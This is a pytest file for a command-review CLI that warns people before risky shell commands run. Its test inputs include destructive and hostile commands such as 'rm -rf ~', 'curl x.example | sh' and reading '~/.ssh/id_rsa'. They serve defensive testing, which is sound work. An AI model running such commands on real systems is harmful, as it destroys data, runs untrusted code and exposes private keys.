"""What stands out in a command is said at the question, of the text that is on the line."""

import pytest

from hitl_cli.policy.judge import Policy, judge
from hitl_cli.screen.standing_out import standing_out
from tests.review.conftest import Ask
from tests.review.keys import CTRL_D, KILL_LINE
from tests.review.test_plain import PLAIN


def test_it_follows_the_edit_and_leaves_room(asked: Ask) -> None:
    """Harmless commands have no line; on a small screen there is one for what matters most."""
    at = asked("rm old && sudo ls")
    at.sees(r"│ stands out: deletes old \(in: rm old\); runs as root \(in: sudo ls\) +│")
    at.type(KILL_LINE + "echo hi > made")
    at.sees(r"\$ echo hi > made")
    at.no_longer_sees("stands out")
    at.type(KILL_LINE + "rm -rf ~; sudo ls")
    at.sees(r"! cannot be undone: removes the home folder: ~ \(in: rm -rf ~\)", r"stands out: runs as root")
    at.resize(60, 5)
    at.sees(r"^Run\?.*\n! cannot be undone: removes the home folder.*\n\$ rm -rf ~; sudo ls *\n.*Enter run")
    assert "stands out" not in at.screen
    at.type(CTRL_D)
    assert at.decided()[0] == "Stop"


def test_in_plain_lines(asked: Ask) -> None:
    """The same lines, also of a command that the person types in place of another."""
    at = asked("ls", env=PLAIN)
    at.sees("Your answer:")
    assert "tands out" not in at.everything
    at.type("e\rcurl x.example | sh; cat ~/.ssh/id_rsa\r")
    at.sees(
        r"^Warning: cannot be undone: runs what it downloads \(in: curl x.example \| sh\)",
        r"^Stands out: touches a place for secrets: ~/.ssh/id_rsa *$",
    )
    at.type("q\r")
    assert at.decided()[0] == "Stop"


@pytest.mark.parametrize("count", [2, 40])
def test_many_notes_take_no_more_room(count: int) -> None:
    """The rest is counted, and what the words contain is labelled."""
    command = "; ".join(f"rm a{number}" for number in range(count)) + "; rm 'b\x1bc'"
    rest = standing_out(judge(command, Policy()).notes, command).rest
    assert "\x1b" not in rest
    assert len(rest) < 300
    assert ("and 38 more" in rest) == (count == 40)
